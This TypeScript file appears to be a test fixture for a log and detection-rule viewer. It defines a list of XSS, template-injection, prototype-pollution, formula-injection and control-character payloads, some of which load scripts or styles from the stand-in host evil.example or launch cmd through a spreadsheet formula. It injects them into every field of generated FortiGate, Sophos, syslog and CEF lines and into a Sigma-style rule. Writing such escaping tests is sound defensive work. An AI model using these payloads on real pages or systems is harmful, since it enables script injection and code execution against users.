/**
 * What attackers write where a page may show it. Each tries to run something (every one that could calls `pwn()`), to load
 * something from elsewhere, to turn text around, or to become a formula.
 */
export const attacks: readonly string[] = [
  "<script>pwn()</script>",
  "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=pwn()>",
  "<img/src/onerror=pwn()>",
  "<svg onload=pwn()>",
  "<svg><script>pwn()</script></svg>",
  "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
  "<iframe src=javascript:pwn()></iframe>",
  "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
  "<object data=data:text/html,<script>pwn()</script>></object>",
  "<embed src=//evil.example/x.swf>",
  "<body onload=pwn()>",
  "<details open ontoggle=pwn()>",
  "<video><source onerror=pwn()></video>",
  "<input autofocus onfocus=pwn()>",
  "<select autofocus onfocus=pwn()>",
  "<marquee onstart=pwn()>",
  "<math><mtext><table><mglyph><style><img src=x onerror=pwn()></style></mglyph></table></mtext></math>",
  "<a href=javascript:pwn()>click</a>",
  "<a href='data:text/html,<script>pwn()</script>'>click</a>",
  "<form action=javascript:pwn()><button>x</button></form>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<style>@import '//evil.example/x.css';</style>",
  "<template><script>pwn()</script></template>",
  "</textarea><script>pwn()</script>",
  "</title><script>pwn()</script>",
  "</script><script>pwn()</script>",
  "--><script>pwn()</script>",
  "]]><script>pwn()</script>",
  "' onmouseover='pwn()",
  "` onmouseover=`pwn()",
  "javascript:pwn()",
  "JaVaScRiPt:pwn()//",
  "java\tscript:pwn()",
  "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
  "//evil.example/path",
  "https://evil.example/?<script>pwn()</script>",
  "{{constructor.constructor('pwn()')()}}",
  "${pwn()}",
  "#{pwn()}",
  "<%= pwn() %>",
  "{device}{rule}{product}{count}",
  "__proto__",
  "constructor",
  "toString",
  "=HYPERLINK('http://evil.example','x')",
  "@SUM(1+1)*cmd|'/c calc'!A0",
  "\u202egpj.exe\u202c",
  "\u200b\u200d\ufeff",
  "a\u0000b",
  "\u001b[2J\u001b]0;title\u0007",
  "%3Cscript%3Epwn()%3C/script%3E",
  "&lt;script&gt;pwn()&lt;/script&gt;",
  "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
  "\ud83d\ude08\ud83d\ude08\ud83d\ude08",
  "ｓｃｒｉｐｔ＜ｉｍｇ＞",
  "<".repeat(2_000),
  "A".repeat(5_000),
];

/** Each attack in every field of lines that each product writes, so that it reaches every place of an event. */
export function hostileLines(): readonly string[] {
  return attacks.flatMap((attack, index) => {
    const text = attack.replaceAll('"', "'").replaceAll("\n", " ");
    const device = `${text.slice(0, 40)} ${index}`;
    return [
      fortigateConfiguration(text, device),
      fortigateTraffic(text, device),
      sophosEvent(text, device),
      plain(text),
      cef(text),
    ];
  });
}

function fortigateConfiguration(text: string, device: string): string {
  return `<189>date=2026-11-24 time=10:00:00 devname="${device}" devid="FG${device}" tz="+0000" vd="${text}" logid="0100044547" type="event" subtype="${text}" level="information" logdesc="${text}" user="${text}" ui="jsconsole(127.0.0.1) ${text}" action="Add" cfgpath="system.admin" cfgobj="${text}" cfgattr="${text}" msg="${text}" ${text}="${text}"`;
}

function fortigateTraffic(text: string, device: string): string {
  return `<189>date=2026-11-24 time=10:00:01 devname="${device}" devid="FG${device}" tz="+0000" logid="0317013312" type="utm" subtype="webfilter" level="notice" vd="root" user="${text}" srcip=${text} dstip="${text}" srcport=1 dstport=443 proto=6 service="${text}" hostname="${text}" action="${text}" url="${text}" agent="${text}" referralurl="${text}" msg="${text}"`;
}

function sophosEvent(text: string, device: string): string {
  return `<30>device="SFW" date=2026-11-24 time=10:00:02 timezone="${text}" device_name="${device}" device_id="S${device}" log_id=062009617502 log_type="Event" log_component="GUI" log_subtype="Admin" status="Successful" priority=Notice user_name="cyberadmin ${text}" src_ip="${text}" message="cyberadmin ${text}"`;
}

function plain(text: string): string {
  return `<13>Nov 24 10:00:03 ${text.replaceAll(/\s/g, "_")} ${text}[1]: ${text}`;
}

function cef(text: string): string {
  return `<13>Nov 24 10:00:04 host CEF:0|${text}|${text}|${text}|${text}|${text}|5|src=${text} suser=${text} request=${text} msg=${text}`;
}

/** A rule of an unfriendly author: every text of it is an attack. */
export function hostileRule(): string {
  const all = (texts: readonly string[]) => texts.map((text) => `  - ${JSON.stringify(text)}`).join("\n");
  const some = attacks.filter((attack) => attack.length < 200);
  return `title: ${JSON.stringify(some.slice(0, 6).join(" "))}
id: 7a1f2b8e-3c55-4b7e-9a55-1f0f6f2d9e11
status: test
description: ${JSON.stringify(some.slice(6, 30).join(" "))}
author: ${JSON.stringify(some.slice(0, 10).join(" "))}
references:
${all(some)}
falsepositives:
${all(some)}
tags:
  - attack.t1190
  - ${JSON.stringify("attack.<img src=x onerror=pwn()>")}
logsource:
  product: fortigate
  service: event
detection:
  everything:
    cfgpath: system.admin
  condition: everything
level: high
# ${some.join(" ").replaceAll(/[\t\r\n\u0000\u001b\u0007]/g, " ")}
`;
}
